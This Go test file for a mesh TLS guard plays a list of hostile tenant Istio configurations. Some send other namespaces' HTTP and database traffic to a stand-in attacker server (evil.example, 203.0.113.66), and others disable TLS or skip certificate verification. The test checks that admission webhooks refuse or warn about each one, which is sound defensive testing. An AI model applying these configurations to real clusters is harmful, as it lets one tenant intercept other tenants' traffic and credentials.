//go:build proxies

package proxies

import (
	"context"
	"fmt"
	"net/netip"
	"strings"
	"testing"

	"github.com/tlsward/tlsward/envoy"
	"github.com/tlsward/tlsward/internal/compare"
	"github.com/tlsward/tlsward/mesh"
)

// attack is what a tenant writes, in team-a, for a connection of somebody to be under TLS no longer. The classes are those of the
// attack search (test/oracle/attack_classes_test.go).
type attack struct {
	class string
	// client is the namespace of the pod whose connection to what it is for: requests, or bytes.
	client string
	to     victim
	// before is what the tenant has already, unseen; writes are refused or harmless; a write that begins with "DELETE" takes away.
	before string
	writes []string
	// warned is the policy that warns of it, where the tenant's own pods alone lose what they had, and it is admitted.
	warned string
}

// victim is a host in namespace default, under TLS with its name checked.
type victim struct {
	host string
	at   netip.AddrPort
	sent envoy.Payload
}

var (
	requestsOfCNN = victim{"edition.cnn.com", netip.MustParseAddrPort("203.0.113.10:80"), envoy.Payload{HTTP: &envoy.Request{Host: "edition.cnn.com"}}}
	bytesOfDB     = victim{"db.example.com", netip.MustParseAddrPort("240.1.1.2:3306"), envoy.Payload{}}
)

// evilAddress is the tenant's server.
const evilAddress = "203.0.113.66"

// dbVictim is a database at an address of its own.
const dbVictim = `
apiVersion: networking.istio.io/v1
kind: ServiceEntry
metadata: {name: db, namespace: default}
spec:
  hosts: [db.example.com]
  addresses: [240.1.1.2]
  ports:
  - {number: 3306, name: tcp, protocol: TCP}
  resolution: DNS
---
apiVersion: networking.istio.io/v1
kind: DestinationRule
metadata: {name: db, namespace: default}
spec:
  host: db.example.com
  trafficPolicy:
    tls: {mode: SIMPLE, sni: db.example.com, subjectAltNames: [db.example.com]}
`

// tenantObject returns an object of the tenant's.
func tenantObject(kind, name, spec string) string {
	return fmt.Sprintf("apiVersion: networking.istio.io/v1\nkind: %s\nmetadata: {name: %s, namespace: team-a}\nspec:\n  %s\n",
		kind, name, strings.ReplaceAll(strings.TrimSpace(spec), "\n", "\n  "))
}

func attacks() []attack {
	evil := tenantObject("ServiceEntry", "evil", `
hosts: [evil.example]
ports: [{number: 80, name: http, protocol: HTTP}, {number: 3306, name: tcp, protocol: TCP}]
addresses: [240.9.9.9]
resolution: STATIC
endpoints: [{address: `+evilAddress+`}]`)
	rule := func(name, tls string) string {
		return tenantObject("DestinationRule", name, "host: edition.cnn.com\nexportTo: [.]\ntrafficPolicy: {tls: "+tls+"}")
	}
	return []attack{
		{
			class: "the listener of another host's entry, at the server's address", client: "shop", to: requestsOfCNN,
			writes: []string{tenantObject("ServiceEntry", "shadow", `
hosts: [evil.example]
addresses: [203.0.113.10]
ports: [{number: 80, name: tcp, protocol: TCP}]
resolution: STATIC
endpoints: [{address: `+evilAddress+`}]`)},
		},
		{
			class: "the listener of another host's entry, over all addresses", client: "default", to: requestsOfCNN,
			writes: []string{tenantObject("ServiceEntry", "shadow", `
hosts: [evil.example]
addresses: [128.0.0.0/1]
ports: [{number: 80, name: tcp, protocol: TCP}]
resolution: NONE`)},
		},
		{
			class: "the listener of another host's entry, by a protocol for bytes", client: "shop", to: requestsOfCNN,
			writes: []string{tenantObject("ServiceEntry", "shadow", `
hosts: [evil.example]
ports: [{number: 80, name: mongo, protocol: MONGO}]
resolution: DNS
exportTo: [shop]`)},
		},
		{
			class: "an entry for the host inside the mesh", client: "team-a", to: requestsOfCNN,
			writes: []string{tenantObject("ServiceEntry", "shadow", `
hosts: [edition.cnn.com]
ports: [{number: 80, name: http, protocol: HTTP}]
resolution: DNS
location: MESH_INTERNAL
exportTo: [.]`)},
		},
		{
			class: "an entry for the host outside the mesh, whose rule is another's", client: "team-a", to: bytesOfDB,
			writes: []string{tenantObject("ServiceEntry", "shadow", `
hosts: [db.example.com]
addresses: [240.1.1.2]
ports: [{number: 3306, name: tcp, protocol: TCP}]
resolution: STATIC
endpoints: [{address: `+evilAddress+`}]
exportTo: [.]`), tenantObject("DestinationRule", "shadow", "host: db.example.com\nexportTo: [.]\ntrafficPolicy: {loadBalancer: {simple: RANDOM}}")},
		},
		{
			class: "an http route", client: "shop", to: requestsOfCNN, before: evil,
			writes: []string{tenantObject("VirtualService", "shadow", `
hosts: [edition.cnn.com]
http: [{route: [{destination: {host: evil.example, port: {number: 80}}}]}]`)},
		},
		{
			class: "a tcp route", client: "shop", to: bytesOfDB, before: evil,
			writes: []string{tenantObject("VirtualService", "shadow", `
hosts: [db.example.com]
tcp: [{match: [{port: 3306}], route: [{destination: {host: evil.example, port: {number: 3306}}}]}]`)},
		},
		{
			class: "DISABLE for requests", client: "team-a", to: requestsOfCNN,
			writes: []string{rule("shadow", "{mode: DISABLE}")},
		},
		{
			class: "a rule to where no name is checked", client: "team-a", to: requestsOfCNN,
			writes: []string{rule("shadow", "{mode: SIMPLE, insecureSkipVerify: true}")}, warned: "unverified-server",
		},
		{
			class: "a rule whose TLS Istio drops", client: "team-a", to: requestsOfCNN,
			writes: []string{rule("shadow", "{mode: MUTUAL, credentialName: client-cert}")},
		},
		{
			class: "a rule by selector", client: "team-a", to: requestsOfCNN,
			writes: []string{tenantObject("DestinationRule", "shadow",
				"host: edition.cnn.com\nexportTo: [.]\nworkloadSelector: {matchLabels: {app: curl}}\ntrafficPolicy: {tls: {mode: DISABLE}}")},
		},
		{
			class: "a Sidecar", client: "team-a", to: requestsOfCNN,
			writes: []string{tenantObject("Sidecar", "shadow", `egress: [{hosts: ["./*"]}]`)}, warned: "undeclared-egress",
		},
		{
			class: "a label alone", client: "shop", to: requestsOfCNN,
			before: strings.Replace(tenantObject("ServiceEntry", "shadow", hiddenBytes), "namespace: team-a}", "namespace: team-a, labels: {istio.io/rev: canary}}", 1),
			writes: []string{tenantObject("ServiceEntry", "shadow", hiddenBytes)},
		},
		{
			class: "the DELETE of what it had to itself", client: "team-a", to: requestsOfCNN,
			before: rule("a-good", "{mode: SIMPLE}") + "---\n" + rule("b-bad", "{mode: DISABLE}"),
			writes: []string{"DELETE\n---\n" + rule("a-good", "{mode: SIMPLE}")},
		},
	}
}

// hiddenBytes is an entry for bytes at the server's address.
const hiddenBytes = `
hosts: [evil.example]
addresses: [203.0.113.10]
ports: [{number: 80, name: tcp, protocol: TCP}]
resolution: STATIC
endpoints: [{address: ` + evilAddress + `}]`

// TestAttacks plays what a tenant writes twice: without the webhooks it takes the TLS of a connection, or the check of the server's
// name, which is seen; with them it is refused, or the connection is as it was.
func TestAttacks(t *testing.T) {
	for _, a := range attacks() {
		t.Run(a.class, func(t *testing.T) {
			s := newScene(t)
			run := newMeshRun(s)
			s.world.names.set("edition.cnn.com", "203.0.113.10")
			s.world.names.set("evil.example", evilAddress)
			for _, namespace := range []string{"team-a", "shop"} {
				if err := s.world.namespace(t.Context(), namespace); err != nil {
					t.Fatal(err)
				}
			}
			s.apply(cnnEntry)
			s.apply(cnnRule)
			s.unseen(dbVictim)
			if a.before != "" {
				pause() // what the tenant has is younger
				s.unseen(a.before)
			}
			run.keeps(s, a, "given", true)
			for _, w := range a.writes {
				if err := s.play(w, s.world.ApplyUnseen, s.world.Remove); err != nil {
					t.Fatal(err)
				}
			}
			run.keeps(s, a, "taken", false)
			for _, w := range append(a.writes, a.before) {
				s.remove(strings.TrimPrefix(w, deletes))
			}
			s.unseen(a.before)
			admitted := 0
			s.world.warnings.take()
			for _, w := range a.writes {
				err := s.play(w, s.world.Apply, s.world.RemoveJudged)
				switch {
				case err == nil:
					admitted++
				case !denied(err, ""):
					t.Fatal(err)
				default:
					t.Logf("refused: %s", err)
				}
			}
			t.Logf("%d of %d writes were admitted", admitted, len(a.writes))
			warned := strings.Join(s.world.warnings.take(), "\n")
			if a.warned != "" && !strings.Contains(warned, a.warned) {
				t.Errorf("want a warning by %s, have %q", a.warned, warned)
			}
			if admitted > 0 && a.warned == "" {
				run.keeps(s, a, "judged", true)
			}
		})
	}
}

// deletes begins a write that takes an object away.
const deletes = "DELETE\n---\n"

// play plays one write.
func (s *scene) play(write string, apply, remove func(context.Context, string) error) error {
	if text, found := strings.CutPrefix(write, deletes); found {
		return remove(s.Context(), text)
	}
	return apply(s.Context(), write)
}

// keeps has a pod that starts now open the victim's connection, which must be under TLS with the server's name checked, or must not.
func (r *meshRun) keeps(s *scene, a attack, name string, want bool) {
	s.Helper()
	pod, err := r.world.Sidecar(s.Context(), a.client, name, map[string]string{"app": "curl"})
	if err != nil {
		s.Fatal(err)
	}
	defer pod.stop(context.Background())
	connection := compare.Connection{Host: a.to.host, Port: uint32(a.to.at.Port()), At: a.to.at, Payload: a.to.sent}
	under := way{to: a.to.host, tls: true, sni: a.to.host, names: []string{a.to.host}}
	under.addresses = r.world.addressesOf(mesh.New(mesh.DefaultSettings()), a.to.host)
	c := &asked{connection: connection, model: []way{under}}
	for _, t := range []trial{rightCertificate, anotherName, unknownAuthority} {
		if err := r.try(s.Context(), pod, c, t); err != nil {
			s.Fatal(err)
		}
	}
	if len(c.seen[rightCertificate]) == 0 {
		s.Errorf("%s: nothing arrived", name)
	}
	if c.agrees(c.model) != want {
		s.Errorf("%s: under TLS with its name checked is %v:\n%s", name, !want, c)
	} else {
		s.Logf("%s: %s", name, c.seen[rightCertificate])
	}
}
